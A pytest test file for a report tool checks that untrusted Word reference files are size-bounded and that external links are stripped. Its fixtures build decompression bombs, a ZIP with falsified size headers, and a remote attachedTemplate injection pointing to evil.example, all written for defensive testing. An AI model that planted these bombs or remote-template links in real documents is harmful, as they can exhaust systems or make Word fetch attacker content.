"""A brand's reference.docx is untrusted: bounded when read, inert when copied.

Each case goes through the command line (``convert -f docx`` and ``brands check``) and
reads the real outputs back: a package that would unpack to gigabytes, a truncated or
non-ZIP file, a ZIP of the wrong parts are one-line configuration errors (exit 2) naming
the file; an ``attachedTemplate`` (or a linked picture) pointing to a URL is dropped from
every report, and ``brands check`` says so.
"""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pytest

from hostile.helpers import (
    assert_no_traceback,
    assert_one_line_error,
    cli,
    docx_document,
    docx_part,
    libreoffice_text,
    make_brief,
    stderr_of,
)
from reportkit.brand import reference as package
from reportkit.brand.search import builtin_dir

DEFAULT_REFERENCE = builtin_dir() / "default" / "reference.docx"
EVIL = "https://evil.example/template.dotx"


def with_parts(reference: bytes, changes: dict[str, bytes]) -> bytes:
    """``reference`` with parts replaced or added."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(reference)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for info in source.infolist():
            if info.filename not in changes:
                target.writestr(info, source.read(info.filename))
        for name, data in changes.items():
            target.writestr(name, data)
    return out.getvalue()


def brand_with_reference(root: Path, data: bytes) -> Path:
    folder = root / "brands" / "worded"
    folder.mkdir(parents=True)
    (folder / "_brand.yml").write_text("meta: {name: Worded}\n", "utf-8")
    (folder / "reference.docx").write_bytes(data)
    (root / "a.txt").write_text(make_brief("Traffic grew by 12% in the first quarter."), "utf-8")
    return folder


def convert_docx(root: Path) -> object:
    return cli(
        "convert", "a.txt", "-f", "docx", "--brand", "./brands/worded", "-o", "out/", cwd=root
    )


def attached_template(reference: bytes) -> bytes:
    """``reference`` whose settings name a template at a URL, and whose header links a
    picture from another host: what Word fetches when the document is opened."""
    with zipfile.ZipFile(io.BytesIO(reference)) as source:
        settings = source.read("word/settings.xml").decode("utf-8")
        names = source.namelist()
    rels_name = "word/_rels/settings.xml.rels"
    assert rels_name not in names
    rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rIdT" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        f'relationships/attachedTemplate" Target="{EVIL}" TargetMode="External"/>'
        "</Relationships>"
    )
    head, tail = settings.split(">", 2)[:2], settings.split(">", 2)[2]
    settings = ">".join(head) + '><w:attachedTemplate r:id="rIdT"/>' + tail
    if "xmlns:r=" not in settings:
        settings = settings.replace(
            "<w:settings ",
            '<w:settings xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
            'relationships" ',
            1,
        )
    return with_parts(reference, {"word/settings.xml": settings.encode(), rels_name: rels.encode()})


# -- bounded ----------------------------------------------------------------------------------
def zero_part(size: int) -> bytes:
    return with_parts(DEFAULT_REFERENCE.read_bytes(), {"word/media/zeros.bin": bytes(size)})


@pytest.mark.parametrize(
    "case",
    ["part-over-the-limit", "ratio-bomb", "lying-header", "truncated", "not-a-zip", "wrong-parts"],
)
def test_an_unusable_reference_is_a_one_line_brand_error(tmp_path: Path, case: str) -> None:
    reference = DEFAULT_REFERENCE.read_bytes()
    data = {
        "part-over-the-limit": lambda: zero_part(package.MAX_PART + 1),
        "ratio-bomb": lambda: zero_part(2 << 20),  # 2 MiB of zeros pack ~1000:1
        "lying-header": lambda: _lying(reference),
        "truncated": lambda: reference[: len(reference) // 2],
        "not-a-zip": lambda: b"%PDF-1.7 not a Word file at all",
        "wrong-parts": lambda: with_parts(b"PK\x05\x06" + bytes(18), {"a.txt": b"hello"}),
    }[case]()
    folder = brand_with_reference(tmp_path, data)
    proc = convert_docx(tmp_path)
    line = assert_one_line_error(proc, 2, "reference.docx")
    assert str(folder / "reference.docx") in line or "brands/worded/reference.docx" in line, line
    assert not list((tmp_path / "out").glob("*.docx")) if (tmp_path / "out").exists() else True
    check = cli("brands", "check", "./brands/worded", cwd=tmp_path)
    assert check.returncode == 1, stderr_of(check)
    assert_no_traceback(stderr_of(check))
    assert "reference.docx" in stderr_of(check)


def _lying(reference: bytes) -> bytes:
    """A part whose headers say 100 bytes and whose data unpacks to 3 MiB."""
    data = bytearray(zero_part(3 << 20))
    # Rewrite the declared size of zeros.bin (local header and central directory) to 100.
    name = b"word/media/zeros.bin"
    for signature, size_at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        start = 0
        while (at := data.find(signature, start)) >= 0:
            name_length = int.from_bytes(data[at + size_at + 4 : at + size_at + 6], "little")
            offset = 30 if signature == b"PK\x03\x04" else 46
            if data[at + offset : at + offset + name_length] == name:
                data[at + size_at : at + size_at + 4] = (100).to_bytes(4, "little")
            start = at + 4
    return bytes(data)


def test_package_limits_are_checked_before_anything_is_unpacked(tmp_path: Path) -> None:
    path = tmp_path / "reference.docx"
    path.write_bytes(zero_part(package.MAX_PART + 1))
    with pytest.raises(package.PackageError, match=r"zeros\.bin unpacks to"):
        package.read_reference(path)
    path.write_bytes(b"x" * (package.MAX_FILE + 1))
    with pytest.raises(OSError, match="limit"):
        package.read_reference(path)


# -- inert ------------------------------------------------------------------------------------
def test_external_relationships_are_dropped_from_every_report(tmp_path: Path) -> None:
    folder = brand_with_reference(tmp_path, attached_template(DEFAULT_REFERENCE.read_bytes()))
    proc = convert_docx(tmp_path)
    assert proc.returncode == 0, stderr_of(proc)
    data = (tmp_path / "out" / "a.docx").read_bytes()
    with zipfile.ZipFile(io.BytesIO(data)) as report:
        everything = b"".join(report.read(n) for n in report.namelist())
    assert EVIL.encode() not in everything
    assert b"attachedTemplate" not in docx_part(data, "word/settings.xml").encode()
    # still a document Word and LibreOffice open, with the brief in it
    assert "12%" in " ".join(p.text for p in docx_document(data).paragraphs)
    assert "12%" in libreoffice_text(data, tmp_path)
    # brands check says what is dropped, as a warning (an error with --strict)
    check = cli("brands", "check", str(folder), cwd=tmp_path)
    assert check.returncode == 0, stderr_of(check)
    assert f"attachedTemplate -> {EVIL} is dropped from every report" in stderr_of(check)
    strict = cli("brands", "check", str(folder), "--strict", cwd=tmp_path)
    assert strict.returncode == 1


def test_external_hyperlinks_of_the_reference_are_kept(tmp_path: Path) -> None:
    """A link a reader may click is not fetched by opening the document: it stays."""
    rels = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rIdH" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/hyperlink" Target="https://brand.example/" TargetMode="External"/>'
        b"</Relationships>"
    )
    path = tmp_path / "reference.docx"
    path.write_bytes(
        with_parts(DEFAULT_REFERENCE.read_bytes(), {"word/_rels/settings.xml.rels": rels})
    )
    kept = package.read_reference(path)
    assert kept.dropped == []
    with zipfile.ZipFile(io.BytesIO(kept.data)) as result:
        assert b"https://brand.example/" in result.read("word/_rels/settings.xml.rels")
